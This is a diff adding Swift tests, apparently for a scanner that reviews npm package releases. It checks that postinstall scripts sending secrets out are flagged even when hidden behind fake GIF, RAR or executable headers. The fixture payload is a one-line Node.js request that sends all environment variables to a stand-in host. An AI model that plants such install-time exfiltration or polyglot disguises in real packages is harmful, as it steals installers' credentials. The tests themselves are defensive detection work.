@@ -142,3 +142,45 @@ import Testing
         #expect(facts.installSigns.contains(.npmConfiguration) && facts.installSigns.contains(.networkModule))
     }
 }
+
+@Suite struct FileKindTests {
+    private static let payload = "require('https').request({host:'c.test'}).end(JSON.stringify(process.env))"
+
+    @Test(
+        "A script is scanned whatever its first bytes claim",
+        arguments: [
+            "/*\u{0}*/", "GIF89a=1;", "BZh=1;", "BZh91AY&SY=1;", "Rar!=1;", "MZ`\u{1}`;", "\u{FEFF}/*\u{0}\u{0}\u{0}*/",
+            "/*\u{1}\u{2}\u{3}\u{4}*/",
+        ],
+        [
+            ("node a.js", "a.js"), ("node b.dat", "b.dat"), ("node ./c", "c"), ("node d.png", "d.png"), ("node e.md", "e.md"),
+            ("node f.js", "f.bin"),
+        ])
+    func polyglots(head: String, place: (command: String, path: String)) {
+        let manifest = #"{"name":"a","version":"1.0.0","scripts":{"postinstall":"\#(place.command)"}}"#
+        let release = ReleaseUnderReview.sample(["package.json": manifest, "f.js": "require('./f.bin')", place.path: head + Self.payload])
+        let judged = Judge.judge(release)
+        #expect(judged.findings.contains { $0.id == "install-sends-secrets" }, "\(judged.text(colour: false))")
+        #expect(judged.verdict != .clear)
+    }
+
+    @Test("A program that a script starts is not read as text, one that an interpreter is told to run is")
+    func programs() {
+        var program: [UInt8] = [0x4D, 0x5A, 0x90, 0x00] + [UInt8](repeating: 0, count: 124)
+        program[60] = 64
+        program[64] = 0x50
+        program[65] = 0x45
+        program += Array(Self.payload.utf8)
+        func judge(_ command: String) -> [String] {
+            Judge.judge(
+                .sample(
+                    [
+                        "package.json": #"{"name":"a","version":"1.0.0","scripts":{"postinstall":"\#(command)"}}"#,
+                        "run.js": "spawn('./tool.exe')",
+                    ], bytes: ["tool.exe": program])
+            ).findings.map(\.id)
+        }
+        #expect(judge("node run.js").contains("install-runs-binary") && !judge("node run.js").contains("install-sends-secrets"))
+        #expect(judge("node tool.exe").contains("install-runs-binary") && judge("node tool.exe").contains("install-sends-secrets"))
+    }
+}
